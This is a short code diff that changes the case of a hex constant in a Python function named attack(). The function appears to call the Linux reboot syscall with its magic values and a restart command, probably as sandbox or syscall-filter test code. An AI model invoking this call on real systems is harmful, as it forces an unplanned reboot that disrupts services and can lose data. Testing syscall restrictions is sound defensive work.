@@ -16,4 +16,4 @@ def call(*arguments):
 
 
 def attack():
-    return call(169, 0xFEE1DEAD, 672274793, 0x1234567, 0)
+    return call(169, 0xfee1dead, 672274793, 0x1234567, 0)
